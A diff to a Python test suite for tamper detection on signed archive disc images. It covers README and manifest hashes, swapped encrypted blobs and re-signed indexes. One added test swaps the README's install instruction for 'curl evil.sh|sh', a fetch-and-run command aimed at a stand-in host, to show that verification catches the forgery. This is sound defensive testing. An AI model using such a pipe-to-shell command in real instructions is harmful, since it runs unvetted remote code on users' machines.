@@ -112,6 +112,27 @@ def test_a_changed_index_fails_its_signature_even_with_a_fixed_manifest(disc: Di
         iso.read_disc(disc.image)  # even against the disc's own key
 
 
+def test_a_changed_readme_fails_quick_verification_even_with_a_fixed_manifest(disc: Disc, tmp_path: Path) -> None:
+    """Issue 9 #12: README.TXT tells a finder how to decrypt; a forger who edits its instructions
+    (and fixes MANIFEST.TXT, which nothing signs) is caught by the README hash in the signed index."""
+    readme_at = file_offset(disc.image, "README.TXT")
+    readme = _raw_file(disc.image, "README.TXT")
+    changed = readme.replace(b"apt install age", b"curl evil.sh|sh", 1)
+    assert changed != readme and len(changed) == len(readme)
+    patch_bytes(disc.image, readme_at, changed)
+    patch_bytes(disc.image, _manifest_line_offset(disc.image, "README.TXT"), hashlib.sha256(changed).hexdigest().encode())
+    with pytest.raises(IntegrityError, match=r"README.TXT .*signed index"):
+        iso.verify_quick(disc.image, public_key=disc.public_key)
+    folder = tmp_path / "mnt"  # a mounted disc too
+    run(["osirrox", "-indev", disc.image, "-extract", "/", folder])
+    with pytest.raises(IntegrityError, match="README.TXT"):
+        iso.verify_quick(folder, public_key=disc.public_key)
+
+
+def test_a_good_disc_reports_its_readme_as_signed(disc: Disc) -> None:
+    assert iso.verify_quick(disc.image, public_key=disc.public_key).readme_signed
+
+
 def test_an_index_resigned_with_another_key_is_refused(disc: Disc, tmp_path: Path, master_key: bytes) -> None:
     """A forger re-signs with their own key and puts their public key on the disc."""
     forger = keys.new_signing_key(master_key, ARCHIVE_ID)
@@ -126,23 +147,24 @@ def test_an_index_resigned_with_another_key_is_refused(disc: Disc, tmp_path: Pat
         iso.verify_quick(forged.path, public_key=disc.public_key)  # ...but not signed by us
 
 
-def test_swapped_blobs_on_the_image_are_found(disc: Disc) -> None:
-    """Two items' bytes exchanged on the image, with the manifest rewritten to match."""
+def test_swapped_blobs_on_the_image_are_found(disc: Disc, tmp_path: Path) -> None:
+    """Two items' bytes exchanged (on an extracted disc: rage's random grease stanzas make the two
+    ciphertexts differ in size), with the manifest rewritten to match."""
     a, b = "ITEMS/00000001.AGE", "ITEMS/00000002.AGE"
-    size = disc.vault.path_of(disc.docs[0].item_id).stat().st_size
-    assert size == disc.vault.path_of(disc.docs[1].item_id).stat().st_size
-    at_a, at_b = file_offset(disc.image, a), file_offset(disc.image, b)
-    raw = disc.image.read_bytes()
-    blob_a, blob_b = raw[at_a : at_a + size], raw[at_b : at_b + size]
-    patch_bytes(disc.image, at_a, blob_b)
-    patch_bytes(disc.image, at_b, blob_a)
+    folder = tmp_path / "mnt"
+    run(["osirrox", "-indev", disc.image, "-extract", "/", folder])
+    run(["chmod", "-R", "u+w", folder])
+    blob_a, blob_b = (folder / a).read_bytes(), (folder / b).read_bytes()
+    (folder / a).write_bytes(blob_b)
+    (folder / b).write_bytes(blob_a)
     with pytest.raises(IntegrityError, match="MANIFEST"):
-        iso.verify_quick(disc.image)
-    for name, blob in ((a, blob_b), (b, blob_a)):
-        line_at = _manifest_line_offset(disc.image, name)
-        patch_bytes(disc.image, line_at, hashlib.sha256(blob).hexdigest().encode())
+        iso.verify_quick(folder)
+    manifest = (folder / "MANIFEST.TXT").read_text()
+    for name, old, new in ((a, blob_a, blob_b), (b, blob_b, blob_a)):
+        manifest = manifest.replace(f"{hashlib.sha256(old).hexdigest()}  {name}", f"{hashlib.sha256(new).hexdigest()}  {name}")
+    (folder / "MANIFEST.TXT").write_text(manifest)
     with pytest.raises(IntegrityError, match="swapped or replaced"):
-        iso.verify_quick(disc.image, public_key=disc.public_key)
+        iso.verify_quick(folder, public_key=disc.public_key)
 
 
 def test_a_blob_registered_under_another_document_fails_full_verification(disc: Disc, tmp_path: Path) -> None:
